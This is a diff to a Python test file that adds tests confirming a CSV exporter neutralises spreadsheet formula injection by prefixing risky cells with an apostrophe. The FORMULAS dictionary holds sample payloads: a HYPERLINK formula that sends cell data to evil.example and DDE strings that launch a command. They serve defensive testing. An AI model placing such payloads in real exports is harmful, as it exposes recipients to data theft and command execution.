@@ -17,7 +17,7 @@ from generator.cache import file_content_hash
 from generator.errors import OutputError
 from generator.exports import make_exports
 from generator.exports.database import briefing_db, write_briefing_db
-from generator.exports.events_csv import COLUMNS, events_csv
+from generator.exports.events_csv import COLUMNS, events_csv, inert
 from generator.exports.ical import events_ics
 from generator.exports.jsonfile import json_bytes, write_json
 from generator.exports.plaintext import html_to_text
@@ -162,6 +162,39 @@ def test_csv_has_a_row_per_citation_with_its_account(briefing):
     assert meeting["outlet"] == "The Wire" and meeting["actors"] == "Bob Example"
 
 
+FORMULAS = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "dde": "+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(briefing):
+    events = "".join(f"""
+    - id: {name}
+      date: 2025-10-19
+      title: "{title.replace('"', chr(92) + '"')}"
+      location: "{title.replace('"', chr(92) + '"')}"
+      citations:
+        - article: first
+          note: "{title.replace('"', chr(92) + '"')}"
+    """ for name, title in FORMULAS.items())
+    text = events_csv(briefing({"content/events/events.yaml": events})).decode("utf-8")
+    rows = {row["event_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+    for name, formula in FORMULAS.items():
+        # The text is all there, behind the apostrophe that tells a spreadsheet it is text.
+        assert (rows[name]["title"], rows[name]["location"], rows[name]["citation_note"]) == ("'" + formula,) * 3
+    assert rows["hyperlink"]["article_title"] == "First article"  # other cells as they were
+
+
+def test_csv_cells_are_neutralised_by_their_first_character_only():
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert inert(start + "1+1") == "'" + start + "1+1"
+    for cell in ("", "Talks in Doha", "2025-10-19", "Pakistan-Afghanistan", "a=b", " =1", "'=1", "\u00a0"):
+        assert inert(cell) == cell
+
+
 def test_icalendar_events_are_all_day_ranges_with_stable_uids(briefing):
     b = briefing()
     data = events_ics(b, Addresses())
@@ -221,7 +254,7 @@ def test_the_database_is_vacuumed_straight_into_its_file_replacing_an_old_one(br
 
 
 def test_a_database_that_cannot_be_written_is_an_os_error(briefing, tmp_path):
-    with pytest.raises(OSError, match="cannot write briefing.db"):
+    with pytest.raises(OSError, match=r"cannot write briefing\.db"):
         write_briefing_db(briefing(), Addresses(), tmp_path / "no such folder" / "briefing.db")
 
 
